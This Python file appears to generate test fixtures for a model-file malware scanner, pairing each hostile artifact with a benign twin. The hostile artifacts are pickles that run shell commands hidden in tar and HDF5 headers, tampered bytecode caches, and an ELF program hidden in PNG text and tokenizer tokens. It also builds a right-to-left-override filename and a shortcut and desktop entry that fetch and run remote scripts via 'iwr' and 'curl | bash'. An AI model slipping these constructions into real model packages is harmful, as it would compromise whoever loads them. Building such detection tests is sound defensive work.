"""Everywhere: files that are two things, programs under other names, caches that are not their source."""

from __future__ import annotations

import base64
import importlib.util
import io
import json
import marshal
import struct
import sys
import zlib

import h5py

from assembly import call, glob, pickle
from eighth.kit import CARD, HOST
from pair import CODE, SHELL
from seventh.kit import elf, gguf, layer, pe, png, safetensors, tarred, zipped


def shortcut(arguments: str) -> bytes:
    """A Windows shortcut: a header, a name, a relative path and arguments."""
    head = struct.pack("<I", 76) + bytes.fromhex("0114020000000000c000000000000046") + struct.pack("<II", 0x2C | 0x80, 0x20) + bytes(24)
    head += struct.pack("<IIIHHII", 0, 0, 7, 0, 0, 0, 0)
    texts = ["Model card", "..\\..\\Windows\\System32\\" + arguments.partition(" ")[0], arguments.partition(" ")[2]]
    return head + b"".join(struct.pack("<H", len(t)) + t.encode("utf-16-le") for t in texts)


def compiled(source: str) -> bytes:
    """Byte code that is used with no look at its source (an unchecked hash of PEP 552)."""
    code = marshal.dumps(compile(source, "modeling_tiny.py", "exec"))
    return importlib.util.MAGIC_NUMBER + struct.pack("<I", 1) + importlib.util.source_hash(b"") + code


def add(out):
    def one(name, hostile, twin, file=None, why="", prove=None):
        out.add("everywhere", name, hostile, twin, prove, file, why)

    # A tar whose first name is a pickle.
    def named(name):
        block = bytearray(tarred([("x", b"1\n")]))
        block[: len(name)] = name
        block[148:156] = b" " * 8
        block[148:156] = b"%06o\0 " % sum(block[:512])
        return bytes(block)

    one(
        "tar_whose_first_name_is_a_pickle",
        named(f"cposix\nsystem\n(S'{SHELL}'\ntR.".encode()),
        named(b"posix/system/touch marker.txt"),
        "model.tar",
        "a tar to tar, a pickle of protocol 0 to pickle.load",
        "pickle",
    )

    # A user block.
    def block(data):
        buffer = io.BytesIO()
        with h5py.File(buffer, "w", userblock_size=512) as f:
            f["kernel"] = [0.5, 0.25, -1.0]
        return data.ljust(512, b"\0") + buffer.getvalue()[512:]

    one(
        "user_block_is_a_pickle",
        block(pickle(call(glob("pydoc", "pipepager"), "x", SHELL))),
        block(b"Written by the training of 2024-05-01.\n"),
        "model.h5",
        "HDF5 leaves the first 512 bytes to the user: what opens it as a pickle runs it",
        "pickle",
    )

    # Byte code that is not of its source.
    source = "class Tiny:\n    hidden = 16\n"
    cache = f"__pycache__/modeling_tiny.cpython-{sys.version_info[0]}{sys.version_info[1]}.pyc"
    one(
        "byte_code_is_not_of_its_source",
        {"modeling_tiny.py": source, cache: compiled(source + CODE + "\n")},
        {"modeling_tiny.py": source, cache: compiled(source)},
        why="as fshec2 (2023) and after: the source is clean, the cached byte code is used unchecked",
        prove="import",
    )

    # A shortcut in place of the card.
    one(
        "shortcut_in_place_of_the_card",
        {
            "README.md.lnk": shortcut(f'cmd.exe /c powershell -w hidden -c "iwr http://{HOST}/c -o c.ps1; ./c.ps1"'),
            "model.safetensors": safetensors([layer("fc.weight", 8, 4)]),
        },
        {
            "README.md": CARD + b"\nRun `powershell -c Get-FileHash model.safetensors`.\n",
            "model.safetensors": safetensors([layer("fc.weight", 8, 4)]),
        },
        why="the shortcut starts a shell that fetches a script",
    )

    # A name read backwards.
    one(
        "name_is_read_backwards",
        {"weights_\u202egnp.exe": pe(), "README.md": CARD},
        {"weights_\u05d0\u05d1.png": png(), "README.md": CARD},
        why="a right-to-left override makes exe.png of a program's name",
    )

    # A program in a picture's text.
    def texted(data):
        chunk = b"zTXt" + b"Software\0\0" + zlib.compress(data, 9)
        body = struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk))
        plain = png()
        return plain[:33] + body + plain[33:]

    one(
        "program_in_the_text_of_a_picture",
        {"preview.png": texted(base64.b64encode(elf())), "model.safetensors": safetensors([layer("fc.weight", 8, 4)])},
        {
            "preview.png": texted(base64.b64encode(json.dumps({"prompt": "a cat", "steps": 20, "seed": 7}).encode())),
            "model.safetensors": safetensors([layer("fc.weight", 8, 4)]),
        },
        why="a compressed text chunk has a program in base64; the twin's has a generation's settings",
    )

    # A program among the added tokens.
    def tokens(extra):
        vocab = {"<unk>": 0, "the": 1, "of": 2}
        added = [
            {"id": 3 + i, "content": t, "special": True, "single_word": False, "lstrip": False, "rstrip": False, "normalized": False}
            for i, t in enumerate(extra)
        ]
        return json.dumps({"version": "1.0", "added_tokens": added, "model": {"type": "WordLevel", "vocab": vocab, "unk_token": "<unk>"}})

    plain = base64.b64encode(elf()).decode()
    one(
        "program_cut_into_tokens",
        tokens([plain[i : i + 24] for i in range(0, len(plain), 24)]),
        tokens([base64.b64encode(t).decode() for t in (b" the", b" of", b" and", b"ing", b"tion")]),
        "tokenizer.json",
        "the added tokens joined are an ELF file in base64; the twin's are byte tokens in base64",
    )

    # A start entry of a desktop.
    entry = "[Desktop Entry]\nType=Application\nName=Model card\nIcon=x-office-document\nTerminal=false\nExec={}\n"
    one(
        "desktop_entry_in_a_bundle",
        zipped(
            [
                ("model/README.desktop", entry.format(f'bash -c "curl -s http://{HOST}/d | bash & xdg-open README.pdf"')),
                ("model/model.gguf", gguf()),
            ]
        ),
        zipped([("model/README.desktop", entry.format("xdg-open README.pdf")), ("model/model.gguf", gguf())]),
        "model.zip",
        "as Transparent Tribe (2025): a document that is a program",
    )
